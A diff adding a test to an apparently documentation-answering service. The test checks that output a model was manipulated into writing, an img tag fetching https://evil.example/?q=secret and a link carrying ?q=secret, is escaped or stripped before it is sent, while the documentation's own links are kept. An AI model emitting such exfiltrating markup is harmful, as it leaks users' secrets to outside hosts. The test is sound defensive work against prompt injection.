@@ -376,3 +376,20 @@ async def test_the_builtin_model_answers_and_says_when_there_is_no_answer(index)
     events = await events_of(question("Which SAML providers can rotate certificates?"), index, BuiltinAnswer())
     assert text_of(events).startswith("The documentation does not say")
     assert events[-1].resolution == "unanswered"
+
+
+async def test_what_a_model_was_talked_into_is_made_safe_and_links_of_the_documentation_stay():
+    index = FakeSearchIndex()
+    index.put("docs", {"deploy.md": "# Deploy\n\nTo deploy, see [the host](https://host.example/start).\n"})
+    written = (
+        "See [the host](https://host.example/start) or https://mine.example/a [1]. "
+        '<img src="https://evil.example/?q=secret"> [more](https://host.example/start?q=secret) `<img>`'
+    )
+    asked = question("How do I deploy? I have https://mine.example/a")
+    events = await events_of(asked, index, ScriptedModel([*written]))
+    sent = (
+        "See [the host](https://host.example/start) or https://mine.example/a [1](/deploy). "
+        '&lt;img src="`https://evil.example/?q=secret`"> more `<img>`'
+    )
+    assert text_of(events) == sent
+    assert events[-1].text == sent
